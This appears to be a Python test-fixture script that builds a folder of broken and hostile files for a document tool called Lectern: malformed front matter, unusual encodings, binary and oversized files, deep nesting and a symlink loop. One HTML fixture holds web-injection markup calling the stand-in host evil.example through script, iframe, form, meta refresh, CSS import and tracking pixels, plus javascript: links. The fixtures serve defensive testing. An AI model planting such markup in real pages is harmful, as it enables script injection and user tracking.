"""Builds, in a folder, a corpus of every broken and hostile file Lectern must survive."""

from __future__ import annotations

import os
from pathlib import Path

HOSTILE_HTML = """---
title: Hostile
---
<div>
<p onclick="steal()" style="background:url(http://evil.example/bg.png)">Visible text.</p>
<script>fetch('http://evil.example/')</script>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/x.swf"></object>
<form action="http://evil.example/post"><input name="q"></form>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<style>@import url(http://evil.example/import.css);</style>
<a href="javascript:alert(1)">js</a> <a href="data:text/html,hi">data</a>
<img src="http://evil.example/pixel.gif" alt="tracker"> <img src="data:image/png;base64,AAAA" alt="inline">
<img src="//evil.example/protocol-relative.png" alt="relative">
</div>
"""

# name → content (str is written as UTF-8; bytes as they are)
FILES: dict[str, str | bytes] = {
    "yaml-tabs.md": "---\ntitle: a\n\tbad: tab\n---\nbody after tabs\n",
    "yaml-unclosed-quote.md": "---\ntitle: 'never closed\n---\nbody after quote\n",
    "yaml-duplicate-keys.md": "---\ntitle: first\ntitle: second\n---\nbody after duplicates\n",
    "yaml-list.md": "---\n- a\n- b\n---\nbody after list\n",
    "yaml-scalar.md": "---\njust words\n---\nbody after scalar\n",
    "no-closing-line.md": "---\ntitle: open\nbody without end\n",
    "toml.md": '+++\ntitle = "TOML"\n+++\nbody after toml\n',
    "empty.md": "",
    "only-front-matter.md": "---\ntitle: Nothing else\n---\n",
    "utf8-bom.md": b"\xef\xbb\xbf---\ntitle: BOM\n---\n\xe4\xbc\xa6\xe7\x90\x86\n",
    "utf16.md": "---\ntitle: UTF-16\n---\n伦理与隐私\n".encode("utf-16"),
    "gbk.md": "---\ntitle: GBK 编码\n---\n中文正文，伦理与监管。\n".encode("gbk"),
    "undecodable.md": b"---\ntitle: Broken bytes\n---\nok \xff\xfe\xfd\x80 still ok\n",
    "binary.md": bytes(range(256)) * 40,
    "one-line.md": "x" * 1_000_000,
    "deep.html": "<div>" * 10_000 + "deep text" + "</div>" * 10_000,
    "hostile.html": HOSTILE_HTML,
}
TOO_LARGE = "huge.md"


def build(root: Path) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in FILES.items():
        path = root / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    with (root / TOO_LARGE).open("wb") as handle:  # sparse: 21 MB on paper, nothing on disk
        handle.truncate(21 * 1024 * 1024)
    (root / "loop").mkdir()
    os.symlink(root, root / "loop" / "back-to-root")
    return root
